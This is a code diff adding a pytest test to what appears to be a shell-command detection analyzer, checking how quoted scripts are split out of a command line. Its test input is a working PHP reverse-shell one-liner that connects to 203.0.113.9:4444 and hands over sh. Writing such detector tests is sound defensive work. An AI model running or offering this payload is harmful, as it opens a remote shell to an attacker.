@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from analyzers.bert.canonical import canonical
+from analyzers.bert.commands import commands
 from analyzers.bert.encoder import ALONE, Encoder
 from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict, place_of
 from analyzers.bert.manifest import BUILTIN_MODEL
@@ -140,6 +141,20 @@ def test_each_command_of_a_line_is_judged_by_itself_too(changed: Callable[..., P
     many = "; ".join(["ls -la /tmp"] * 500 + [f"rm /tmp/{number}" for number in range(500)])
     (read,) = with_them.read([(many, place_of("shell"), form.features)], 16)
     assert not read.whole and len(read.windows) == 16 + ALONE and read.among > 500
+
+
+def test_a_script_in_quotes_is_one_command_and_an_open_quote_hides_none() -> None:
+    shell, script = place_of("shell"), """php -r '$s=fsockopen("203.0.113.9",4444);popen("sh <&3 >&3 2>&3", "r");'"""
+    around = ["cd /srv/app", "git pull --rebase", "make -j4 build", "tail -n 50 /var/log/app/build.log"]
+    found = commands("; ".join([*around, script, *around]), shell)
+    assert found[-1] == script and 'popen("sh <&3 >&3 2>&3", "r")' in found and found[:4] == around
+    # Quotes that do not pair hold the wrong things together, and nothing apart.
+    for quote in ("'", '"', " ' ", ' " '):
+        found = commands("; ".join([*around[:2], "echo " + quote, script, *around[2:]]), shell)
+        assert 'popen("sh <&3 >&3 2>&3", "r")' in found and set(around) <= set(found)
+    # The whole is read anyway.
+    alone = commands("php -r '" + "print(1);" * 20 + "'", shell)
+    assert alone == ["php -r 'print(1)", "print(1)"]
 
 
 def _logit(verdict: Verdict) -> float:
